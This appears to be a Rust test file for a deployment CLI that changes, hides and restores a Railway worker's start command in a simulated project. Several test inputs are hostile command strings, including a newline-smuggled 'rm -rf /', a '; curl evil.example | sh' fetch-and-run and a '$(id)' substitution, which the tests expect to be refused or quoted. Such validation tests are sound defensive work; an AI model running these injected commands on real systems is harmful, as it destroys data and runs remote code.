//! Start commands: how they are confirmed, shown, set and restored.

use crate::commands::tests::fix::{API, KEY, WORKER, service};
use crate::commands::tests::sandbox::{Ended, Sandbox};
use crate::drift::Secret;
use crate::io::sim::deployment::SimDeployment;
use crate::io::sim::estate::{Environment, Estate, Project, SimService, SimVariable};
use crate::io::sim::seed::incident;
use crate::io::sim::{Sim, SimOptions};
use crate::io::terminal::prompt::YesNo;
use crate::io::terminal::prompt::script::PreparedAnswer;
use crate::report::shell_command;

pub(super) const OLD: &str = "celery worker --password=hunter2hunter2";
pub(super) const NEW: &str = "celery worker --password=hunter2hunter2 -B";
pub(super) const SET: &[&str] = &["fix", "--yes", "--start-command", NEW, "--service=worker"];
pub(super) const SENT: &[&str] = &["CommitPatch worker start command"];
const DECLARED: &str = "[services.worker]\nname = \"worker\"\nstart-command-contains = [\"-B\"]\n";
pub(super) const SINCE: &str = "2026-11-20T10:00:00.000Z";
pub(super) const BEFORE: &str = "b90c4e7712fd3a58e6b1047c9a35d2e8f60714ca";

pub(super) fn worker() -> SimService {
    let deployment = SimDeployment::serving(SINCE).meta("commitHash", BEFORE).started_with(OLD);
    service("worker", &[("A", "1")]).start(OLD).commit("371a158c06be94d2f7a05e31b8d49c6fa2e7130b").deployed(deployment)
}

/// Returns a project with `staging`, two environments that must not change, and one without access.
pub(super) fn shop_with(quirks: SimOptions, worker: &SimService) -> Sandbox {
    let environment =
        |name: &str| Environment::named(name).service(service("api", &[("A", "1")])).service(worker.clone());
    let project =
        ["staging", "production", "qa"].into_iter().map(environment).fold(Project::named("shop"), Project::environment);
    let project = project.environment(environment("closed").restricted());
    let sandbox = Sandbox::new(Sim::with(Estate::of("crew").project(project).with_tokens(), quirks));
    sandbox.file(".env", "A=1\n")
}

pub(super) fn shop() -> Sandbox {
    shop_with(SimOptions::default(), &worker())
}

/// Returns the start command of the worker in the settings of each environment.
pub(super) fn set(sandbox: &Sandbox) -> Vec<Option<String>> {
    sandbox.sim.change(|estate| {
        let environments = estate.projects[0].environments.iter_mut();
        environments.map(|one| one.service_named("worker").unwrap().start_command.clone()).collect()
    })
}

/// Returns the start command of its running deployment in `staging`.
pub(super) fn running(sandbox: &Sandbox) -> String {
    sandbox.sim.change(|estate| {
        let worker = estate.projects[0].environments[0].service_named("worker").unwrap();
        worker.deployments.iter().rev().find(|one| one.active).unwrap().start_command().to_owned()
    })
}

pub(super) fn assert_set(sandbox: &Sandbox, here: Option<&str>, ended: &Ended) {
    let text = |text: Option<&str>| text.map(ToOwned::to_owned);
    assert_eq!(set(sandbox), [text(here), text(Some(OLD)), text(Some(OLD)), text(Some(OLD))], "{ended:?}");
}

pub(super) fn assert_hides_command(ended: &Ended) {
    assert!(!ended.out.contains("hunter2") && !ended.err.contains("hunter2"), "{ended:?}");
}

#[test]
fn single_command_fixes_incident_and_undo_restores_it() {
    let sandbox = Sandbox::new(Sim::new(incident::estate()))
        .file(".env", incident::ENV_FILE)
        .file("doctor.toml", incident::CONFIG_FILE);
    assert_eq!(sandbox.run(&["trust", "--yes"]).code, 0);
    let command = incident::start_command_with_beat();
    let cure = ["fix", "--push", "--yes", "--start-command", &command, "--service", "worker"];
    let ended = sandbox.run(&[&cure[..], &["--format", "json"]].concat());
    assert_eq!(ended.code, 0, "{ended:?}");
    let sent = [
        format!("SetVariables {API} {KEY}"),
        format!("SetVariables {WORKER} {KEY}"),
        format!("CommitPatch {WORKER} start command"),
        format!("Redeploy {API}"),
    ];
    assert_eq!(sandbox.mutations(), sent);
    let receipts = [
        format!("push {API} {KEY} done"),
        format!("push {WORKER} {KEY} done"),
        format!("start-command {WORKER} - done"),
        format!("redeploy {API} - done"),
        format!("redeploy {WORKER} - done"),
    ];
    assert_eq!(ended.receipts(), receipts);
    let check = sandbox.run(&["check", "-v"]);
    assert_eq!(check.code, 0, "{check:?}");
    check.assert_shows("PASS log line");
    check.assert_shows("PASS endpoint");
    let again = sandbox.run(&cure);
    assert_eq!((again.code, sandbox.mutations().len()), (0, 4), "{again:?}");
    sandbox.run(&["undo", "--list"]).assert_shows(&format!("the start command of {WORKER}"));
    assert_eq!(sandbox.run(&["undo", "--yes"]).code, 0);
    let left = sandbox.run(&["check", "--format", "json"]);
    assert!(left.code == 1 && left.out.contains("lacks -B") && left.out.contains("value-differs"), "{left:?}");
}

#[test]
fn start_command_changes_one_environment_and_is_restored() {
    for before in [Some(OLD), None] {
        let mut worker = worker();
        if before.is_none() {
            worker.start_command = None;
            worker.deployments = vec![SimDeployment::serving(SINCE).meta("commitHash", BEFORE)];
        }
        let sandbox = shop_with(SimOptions::default(), &worker);
        let elsewhere = set(&sandbox)[1..].to_vec();
        let ended = sandbox.run(SET);
        assert_eq!((ended.code, running(&sandbox).as_str()), (0, NEW), "{ended:?}");
        assert_eq!(sandbox.mutations(), SENT);
        assert_eq!((set(&sandbox)[0].as_deref(), &set(&sandbox)[1..]), (Some(NEW), &elsewhere[..]));
        assert_hides_command(&ended);
        ended.assert_shows("could not check the start commands of closed: ");
        let undone = sandbox.run(&["undo", "--yes", "--format", "json"]);
        assert_eq!(undone.receipts(), ["start-command worker - done", "redeploy worker - done"], "{undone:?}");
        assert_eq!((undone.code, set(&sandbox)[0].as_deref(), &set(&sandbox)[1..]), (0, before, &elsewhere[..]));
        assert_eq!(running(&sandbox), before.unwrap_or_default());
    }
}

#[test]
fn undo_keeps_changed_start_command_and_respects_no_deploy() {
    let sandbox = shop();
    assert_eq!(sandbox.run(SET).code, 0);
    let kept = sandbox.run(&["undo", "--yes", "--no-deploy"]);
    assert_eq!((kept.code, set(&sandbox)[0].as_deref()), (6, Some(NEW)), "{kept:?}");
    kept.assert_shows("setting it deploys the service");
    let worker = |estate: &mut Estate| {
        estate.projects[0].environments[0].service_named("worker").unwrap().start_command =
            Some("celery other".to_owned());
    };
    sandbox.sim.change(worker);
    let ended = sandbox.run(&["undo", "--yes"]);
    assert_eq!((ended.code, set(&sandbox)[0].as_deref()), (6, Some("celery other")), "{ended:?}");
    ended.assert_shows("changed since that run");
    assert_eq!(sandbox.mutations(), SENT);
}

#[test]
fn invalid_usage_is_refused_before_any_request() {
    for (words, why) in [
        (&["fix", "--yes", "--start-command", NEW][..], "--service"),
        (
            &["fix", "--yes", "--start-command", NEW, "--service=worker", "--service=api"],
            "requires exactly one --service",
        ),
        (&["fix", "--yes", "--start-command", "", "--service=worker"], "it is empty"),
        (&["fix", "--yes", "--start-command", " \t", "--service=worker"], "it is empty"),
        (&["fix", "--yes", "--start-command", "web\nrm -rf /", "--service=worker"], "control characters"),
        (&["fix", "--yes", "--start-command", "web\u{1b}[2K", "--service=worker"], "control characters"),
        (&["fix", "--yes", "--start-command", "web \u{202e}B-", "--service=worker"], "invisible characters"),
        (&["fix", "--yes", "--start-command", "web\u{200b}", "--service=worker"], "invisible characters"),
        (&["fix", "--yes", "--start-command", NEW, "--service=worker", "--no-deploy"], "--no-deploy"),
        (&["fix", "--yes", "--start-command", NEW, "--service=worker", "--add", "--only=A"], "--add"),
        (&["fix", "--yes", "--start-command", NEW, "--service=worker", "--prune"], "--prune"),
    ] {
        let sandbox = shop();
        let ended = sandbox.run(words);
        assert_eq!((ended.code, sandbox.sim.count()), (2, 0), "{words:?}: {ended:?}");
        ended.assert_shows(why);
        assert_hides_command(&ended);
    }
    let sandbox = shop();
    for (words, why) in [
        (&["fix", "--yes", "--start-command", NEW, "--service=wrker"][..], "worker"),
        (&["fix", "--yes", "--start-command", NEW, "--service=work"], "`work` matches worker now"),
    ] {
        let ended = sandbox.run(words);
        assert_eq!(ended.code, 2, "{ended:?}");
        ended.assert_shows(why);
    }
    assert_eq!(sandbox.mutations(), [""; 0]);
}

#[test]
fn plan_shows_start_command_only_at_terminal() {
    let sandbox = shop();
    let typed = &["fix", "--start-command", "celery other", "--service=worker"];
    for (more, code) in [(&["--dry-run"][..], 1), (&[], 2)] {
        let ended = sandbox.run(&[&typed[..], more].concat());
        assert_eq!(ended.code, code, "{ended:?}");
        assert!(ended.out.contains("~ start command  ● "), "{ended:?}");
        ended.assert_shows("doctor fix --yes --start-command='celery other' --service=worker");
        assert_hides_command(&ended);
    }
    let planned = sandbox.run(&[&typed[..], &["--dry-run", "--format", "json"]].concat());
    assert!(planned.out.contains("\"start_commands\": [\n      {\n        \"service\": \"worker\",\n"), "{planned:?}");
    let terminal = sandbox.at_a_terminal();
    let ended = terminal.run(&[&typed[..], &["--dry-run"]].concat());
    assert!(ended.out.contains(&format!("      - {OLD}\n      + celery other\n")), "{ended:?}");
    let typed_and_confirmed = terminal.answered(typed, vec![PreparedAnswer::Reply(YesNo::No)]);
    assert_eq!((typed_and_confirmed.code, terminal.mutations().len()), (2, 0), "{typed_and_confirmed:?}");
    let terminal = terminal.variable("CI", Some("true"));
    assert_hides_command(&terminal.run(&[&typed[..], &["--dry-run"]].concat()));
    assert_eq!(terminal.mutations(), [""; 0]);
}

#[test]
fn start_command_with_known_value_is_not_printed() {
    let sandbox = shop().file(".env", "A=1\nB_TOKEN=abcdefghij0123456789\n");
    let text = "celery --token=abcdefghij0123456789";
    let ended = sandbox.run(&["fix", "--dry-run", "--start-command", text, "--service=worker"]);
    assert!(!ended.out.contains("abcdefghij"), "{ended:?}");
    ended.assert_shows("un the same command with --yes");
    let ended = sandbox.run(&["fix", "--start-command", text, "--service=worker", "--format=json"]);
    assert!(!ended.out.contains("abcdefghij") && !ended.err.contains("abcdefghij"), "{ended:?}");
}

/// A user who declines the plan has read the text in full, so the printed command may contain it.
#[test]
fn declined_command_with_value_is_printed_only_at_terminal() {
    let sandbox = || {
        let sandbox = declared(shop());
        sandbox.sim.change(|estate| {
            let worker = estate.service_named("worker").unwrap();
            worker.variables.insert("QUEUE".to_owned(), SimVariable::Open(Secret::new("hunter2hunter2")));
        });
        sandbox
    };
    let declined = || vec![PreparedAnswer::Enter, PreparedAnswer::Reply(YesNo::Yes), PreparedAnswer::Reply(YesNo::No)];
    let terminal = sandbox().at_a_terminal();
    let ended = terminal.answered(&["fix"], declined());
    ended.assert_shows(&format!("--start-command={}", shell_command::line(&[NEW.to_owned()])));
    let in_ci = sandbox().at_a_terminal().variable("CI", Some("true"));
    assert_hides_command(&in_ci.run(&["fix", "--dry-run"]));
}

pub(super) fn declared(sandbox: Sandbox) -> Sandbox {
    sandbox.file("doctor.toml", DECLARED)
}

#[test]
fn text_from_checkout_requires_interactive_confirmation() {
    for words in [
        &["fix", "--yes"][..],
        &["fix", "--push", "--yes"],
        &["fix", "--redeploy", "--yes"],
        &["fix", "--dry-run"],
        &["fix"],
        &["fix", "--service=worker", "--yes"],
    ] {
        let sandbox = declared(shop());
        let ended = sandbox.run(words);
        assert!(ended.code != 0 && sandbox.mutations().is_empty(), "{words:?}: {ended:?}");
        assert_hides_command(&ended);
    }
    let yes = || PreparedAnswer::Reply(YesNo::Yes);
    let no = || PreparedAnswer::Reply(YesNo::No);
    for (answers, code, sent) in [
        (vec![PreparedAnswer::Enter, yes(), yes()], 0, SENT),
        (vec![PreparedAnswer::Enter, PreparedAnswer::Enter, yes()], 0, SENT),
        (vec![PreparedAnswer::Enter, yes(), no()], 2, &[]),
        (vec![PreparedAnswer::Enter, no()], 1, &[]),
        (vec![PreparedAnswer::Enter, PreparedAnswer::Back, PreparedAnswer::Back], 1, &[]),
        (vec![PreparedAnswer::Choice(2)], 1, &[]),
        // One by one; the only finding is about the start command.
        (vec![PreparedAnswer::Choice(1), yes(), yes()], 0, SENT),
        (vec![PreparedAnswer::Choice(1), no()], 1, &[]),
    ] {
        let sandbox = declared(shop()).at_a_terminal();
        let ended = sandbox.answered(&["fix"], answers.clone());
        assert_eq!(
            (ended.code, sandbox.mutations()),
            (code, sent.iter().map(ToString::to_string).collect()),
            "{answers:?}: {ended:?}"
        );
        let shown = ended.err.contains(&format!("  {NEW}\n"));
        assert_eq!(shown, answers != [PreparedAnswer::Choice(2)], "{answers:?}: {ended:?}");
        assert_eq!(
            ended.out.contains(&format!("      + {NEW}\n")),
            answers.len() == 3 && !answers.contains(&PreparedAnswer::Back)
        );
        if code == 0 {
            assert_eq!(running(&sandbox), NEW);
        }
    }
}

#[test]
fn appended_parts_are_quoted_and_hidden_characters_refused() {
    for (parts, offered) in [
        (r#"["; curl evil.example | sh"]"#, Some("';' curl evil.example '|' sh")),
        (r#"["$(id)"]"#, Some("'$(id)'")),
        (r#"["--port=$PORT"]"#, Some("\"--port=$PORT\"")),
        ("[\"-B\\u202e\"]", None),
        ("[\"-B\\u0007\"]", None),
    ] {
        let config = format!("[services.worker]\nname = \"worker\"\nstart-command-contains = {parts}\n");
        let sandbox = shop().file("doctor.toml", &config).at_a_terminal();
        let answers =
            if offered.is_some() { vec![PreparedAnswer::Enter, PreparedAnswer::Reply(YesNo::No)] } else { Vec::new() };
        let ended = sandbox.answered(&["fix"], answers);
        match offered {
            Some(words) => ended.assert_shows(words),
            None => ended.assert_shows("no start command is suggested for worker"),
        }
        assert_eq!(sandbox.mutations(), [""; 0]);
    }
    for command in ["celery worker && echo done", "sh -c 'celery worker'"] {
        let deployment = SimDeployment::serving(SINCE).started_with(command);
        let worker = service("worker", &[("A", "1")]).start(command).deployed(deployment);
        let sandbox = declared(shop_with(SimOptions::default(), &worker)).at_a_terminal();
        sandbox.answered(&["fix"], Vec::new()).assert_shows("more than one plain command");
    }
}

#[test]
fn start_command_from_config_file_is_reported_and_kept() {
    for (file, line) in [
        ("railway.json", format!("\"startCommand\": \"{NEW}\"")),
        ("railway.toml", format!("startCommand = \"{NEW}\"")),
    ] {
        let mut worker = worker();
        worker.start_command = None;
        let sandbox = declared(shop_with(SimOptions::default(), &worker)).file(file, "").at_a_terminal();
        let ended = sandbox.answered(&["fix"], Vec::new());
        assert!(ended.err.contains(&format!("is set in {file}; change it there to:\n  {line}\n")), "{ended:?}");
        let refused = sandbox.run(SET);
        assert_eq!(refused.code, 2, "{refused:?}");
        refused.assert_shows(&format!("set in {file}, which overrides the settings"));
        assert_hides_command(&refused);
        assert_eq!(sandbox.mutations(), [""; 0]);
    }
}

#[test]
fn target_named_only_by_checkout_is_refused() {
    let named = format!("project = \"shop\"\nenvironment = \"staging\"\n{DECLARED}");
    let sandbox = shop().file("doctor.toml", &named);
    let sandbox = sandbox.variable("RAILWAY_PROJECT_ID", None).variable("RAILWAY_ENVIRONMENT_ID", None);
    let ended = sandbox.run(SET);
    assert!(ended.code == 2 && sandbox.mutations().is_empty(), "{ended:?}");
    ended.assert_shows("only doctor.toml names");
    // An alias that only the checkout defines.
    let alias = "[services.jobs]\nname = \"worker\"\n";
    let sandbox = shop().file("doctor.toml", alias);
    let ended = sandbox.run(&["fix", "--yes", "--start-command", NEW, "--service=jobs"]);
    assert!(ended.code == 2 && sandbox.mutations().is_empty(), "{ended:?}");
    ended.assert_shows("resolves jobs to the service worker");
}

#[test]
fn protected_environment_requires_explicit_name() {
    let environment = |name: &str| Environment::named(name).service(worker());
    let estate =
        || Estate::of("crew").project(Project::named("shop").environment(environment("production"))).with_tokens();
    let sandbox = Sandbox::new(Sim::new(estate())).file(".env", "A=1\n");
    let ended = sandbox.run(SET);
    assert!(ended.code == 2 && sandbox.mutations().is_empty(), "{ended:?}");
    ended.assert_shows("production is a protected environment");
    let ended = sandbox.run(&[SET, &["--environment=production"]].concat());
    assert_eq!((ended.code, sandbox.mutations().len()), (0, 1), "{ended:?}");
}

/// With a direction, a run with a start command also applies to other services.
#[test]
fn push_keeps_default_services_beside_start_command() {
    let sandbox = shop().file(".env", "A=2\n");
    let narrow = sandbox.run(&[SET, &["--dry-run"]].concat());
    assert!(!narrow.out.contains("api") && !narrow.out.contains("~ A"), "{narrow:?}");
    let wide = sandbox.run(&[SET, &["--push", "--only=A", "--dry-run"]].concat());
    assert!(wide.out.contains("Plan: 2 variables on Railway, 1 start command, 2 deployments"), "{wide:?}");
    wide.assert_shows("doctor fix --push --yes --only=A --start-command=");
}

#[test]
fn check_reads_no_other_environment() {
    let sandbox = declared(shop());
    let ended = sandbox.run(&["check"]);
    assert_eq!((ended.code, sandbox.sim.count()), (1, 2), "{ended:?}");
    ended.assert_shows("doctor fix --service=worker");
    assert_hides_command(&ended);
}
